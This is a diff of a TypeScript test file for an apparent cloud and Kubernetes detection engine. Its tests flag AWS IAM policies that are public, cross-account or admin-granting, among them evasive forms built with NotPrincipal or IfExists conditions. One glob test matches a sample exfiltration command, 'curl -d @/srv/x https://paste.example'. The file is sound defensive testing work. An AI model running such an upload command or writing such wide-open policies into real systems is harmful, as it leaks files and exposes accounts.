@@ -1,4 +1,4 @@
-import type { Event, Json } from "@rolecall/core";
+import type { Event, Json, JsonObject } from "@rolecall/core";
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
 import { compileCondition } from "./condition.ts";
@@ -108,7 +108,11 @@ describe("a condition", () => {
     ["0.0.0.0/0", true],
     ["::/0", true],
     ["203.0.113.7/0", true],
+    ["128.0.0.0/1", true],
+    ["2000::/3", true],
     ["10.0.0.0/8", false],
+    ["fc00::/7", false],
+    ["2001:db8::/32", false],
     ["0.0.0.0", false],
     ["x/0", false],
   ])("the range %s is the whole world: %s", (value, expected) => {
@@ -140,11 +144,35 @@ describe("a condition", () => {
   });
 });
 
+/** Conditions that leave everybody in. */
+const WIDE: readonly (readonly [string, JsonObject])[] = [
+  ["all but an organization", { StringNotEquals: { "aws:PrincipalOrgID": "o-1" } }],
+  ["whoever has no network of ours", { Null: { "aws:SourceVpc": "true" } }],
+  ["an organization, if there is one", { StringEqualsIfExists: { "aws:PrincipalOrgID": "o-1" } }],
+  ["an organization, of none as well", { "ForAllValues:StringEquals": { "aws:PrincipalOrgID": "o-1" } }],
+  ["any organization", { StringLike: { "aws:PrincipalOrgID": "o-*" } }],
+  ["roles of any account", { ArnLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/*" } }],
+  ["two halves of the internet", { IpAddress: { "aws:SourceIp": ["0.0.0.0/1", "128.0.0.0/1"] } }],
+];
+const FOREIGN = { StringEquals: { "aws:PrincipalAccount": "999988887777" } };
+const OWN = { ArnLike: { "aws:PrincipalArn": "arn:aws:iam::123456789012:role/*" } };
+const GIVES: readonly (readonly [action: string, resource: string, gives: boolean])[] = [
+  ["IAM:**", "*", true],
+  ["iam:?*", "arn:aws:iam::*:*", true],
+  ["*", "arn:aws:iam::123456789012:*", true],
+  ["*", "arn:aws:*", true],
+  ["iam:Put*", "*", true],
+  ["iam:*Policy", "*", true],
+  ["iam:Get*", "*", false],
+  ["iam:PassRole", "*", false],
+  ["*", "arn:aws:s3:::*", false],
+];
+
 describe("a policy document", () => {
   const outsider = { Effect: "Allow", Principal: { AWS: "arn:aws:iam::999988887777:root" }, Action: "sts:AssumeRole" };
   const everybody = { Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: "*" };
 
-  test.each<[string, "outside" | "public" | "admin", Json, boolean]>([
+  test.each<readonly [string, "outside" | "public" | "admin", Json, boolean]>([
     ["another account is outside", "outside", policy([outsider]), true],
     ["the same, URL-encoded", "outside", encodeURIComponent(policy([outsider])), true],
     ["the same, as an object with one statement", "outside", { Statement: outsider }, true],
@@ -174,6 +202,18 @@ describe("a policy document", () => {
       true,
     ],
     ["another account is not public", "public", policy([outsider]), false],
+    [
+      "who is not one of the named",
+      "public",
+      policy([{ ...everybody, Principal: undefined, NotPrincipal: "x" }]),
+      true,
+    ],
+    ...WIDE.map(
+      ([name, condition]) => [name, "public", policy([{ ...everybody, Condition: condition }]), true] as const,
+    ),
+    ["another account by a condition", "outside", policy([{ ...everybody, Condition: FOREIGN }]), true],
+    ["its own account by a condition", "outside", policy([{ ...everybody, Condition: OWN }]), false],
+    ["what is written far apart", "outside", policy([outsider]).replace("[", `[${" ".repeat(100_000)}`), true],
     ["everything on everything", "admin", policy([{ Effect: "Allow", Action: ["*"], Resource: ["*"] }]), true],
     ["everything of one service", "admin", policy([{ Effect: "Allow", Action: "s3:*", Resource: "*" }]), false],
     ["everything of IAM", "admin", policy([{ Effect: "Allow", Action: "iam:*", Resource: "*" }]), true],
@@ -183,6 +223,12 @@ describe("a policy document", () => {
       policy([{ Effect: "Allow", Action: "*", Resource: "arn:aws:s3:::b" }]),
       false,
     ],
+    ...GIVES.map(([Action, Resource, gives]) => {
+      return [`${Action} on ${Resource}`, "admin", policy([{ Effect: "Allow", Action, Resource }]), gives] as const;
+    }),
+    ["all but support", "admin", policy([{ Effect: "Allow", NotAction: "support:*", Resource: "*" }]), true],
+    ["all but IAM", "admin", policy([{ Effect: "Allow", NotAction: ["IAM:*", "a:b"], Resource: "*" }]), false],
+    ["all but one resource", "admin", policy([{ Effect: "Allow", Action: "*", NotResource: "arn:aws:s3:::b" }]), true],
     ["no JSON", "public", "{", false],
     ["broken encoding", "public", "%7B%", false],
     ["a list", "public", "[]", false],
@@ -190,6 +236,31 @@ describe("a policy document", () => {
   ])("%s", (_title, test_, document, expected) => {
     expect(holds({ field: "raw.p", policy: test_ }, { p: document })).toBe(expected);
   });
+});
+
+test("a glob finds its words in a text of any length", () => {
+  expect(compileGlob("*curl*-d @*")(`curl -d @/srv/x https://paste.example # ${"x".repeat(100_000)}`)).toBe(true);
+});
+
+test.each([
+  ["/etc/kubernetes", true],
+  ["//etc/./kubernetes/", true],
+  ["etc/kubernetes", false],
+  ["/etc/kubernetes/pki", false],
+])("the path %s is one of those that are meant: %s", (path, expected) => {
+  expect(holds({ field: "raw.p", isPath: ["/etc/kubernetes", "/"] }, { p: path })).toBe(expected);
+});
+
+test("a JSON Patch is read as what it writes", () => {
+  const patch = [{ op: "add", path: "/rules/-", value: { verbs: ["*"] } }];
+  const condition = { each: "raw.requestObject.rules", where: { field: "item.verbs", equals: "*" } } as const;
+  expect(holds(condition, { verb: "patch", requestObject: patch }, { source: "kubernetes-audit" })).toBe(true);
+});
+
+test("what matters may stand behind any number of others", () => {
+  const raw = { list: [...new Array(2000).fill({ k: "a" }), { k: "b" }], flat: [...new Array(2000).fill("a"), "b"] };
+  expect(holds({ field: "raw.list.*.k", equals: "b" }, raw)).toBe(true);
+  expect(holds({ field: "raw.flat", equals: "b" }, raw)).toBe(true);
 });
 
 test("a glob means what its regular expression means", () => {
